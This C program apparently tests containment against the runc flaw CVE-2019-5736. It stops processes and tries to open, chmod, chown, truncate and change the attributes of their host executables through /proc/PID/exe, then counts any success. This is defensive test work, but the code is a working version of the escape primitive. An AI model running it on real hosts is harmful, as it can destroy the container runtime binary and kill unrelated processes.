/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * exewriter FILE - root of a container, after the program of the host that a process in the container runs: CVE-2019-5736.
 *
 * Until FILE appears it looks for processes whose program is not below /bin, stops each, and tries to get that program open
 * for writing, and to change it by a descriptor for reading. Last line: MET n, how many looks found such a process; READ n,
 * opened for reading; CHANGED n, of which nothing may work.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static unsigned long met, was_read, changed;

static int is_foreign(int pid)
{
	char path[64], exe[4096];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n <= 0)
		return 0;
	exe[n] = '\0';
	return strncmp(exe, "/bin/", 5) != 0;
}

static void try_open(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	if (fd < 0)
		return;
	printf("CHANGED open %s %x\n", path, (unsigned int)flags);
	changed++;
	close(fd);
}

static void note(const char *what, int result)
{
	if (result < 0)
		return;
	printf("CHANGED %s\n", what);
	changed++;
}

static void try_write(const char *path)
{
	try_open(path, O_WRONLY);
	try_open(path, O_RDWR);
	try_open(path, O_WRONLY | O_TRUNC);
	try_open(path, O_WRONLY | O_APPEND);
	note("chmod", chmod(path, 0777));
	note("chown", chown(path, 0, 0));
	note("truncate", truncate(path, 0));
	note("setxattr", setxattr(path, "user.mine", "1", 1, 0));
}

static void attack(int pid)
{
	char path[64], again[64];
	int fd;

	if (!is_foreign(pid) || kill(pid, SIGSTOP) < 0)
		return;
	met++;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	try_write(path);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		was_read++;
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		kill(pid, SIGKILL); /* what runs is busy: not any more */
		usleep(1000);
		try_write(again);
		note("fchmod", fchmod(fd, 0777));
		note("ftruncate", ftruncate(fd, 0));
		close(fd);
	}
	kill(pid, SIGKILL);
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	while (access(argv[1], F_OK) < 0) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != 1)
				attack(atoi(entry->d_name));
		if (dir)
			closedir(dir);
	}
	printf("MET %lu READ %lu CHANGED %lu\n", met, was_read, changed);
	return 0;
}
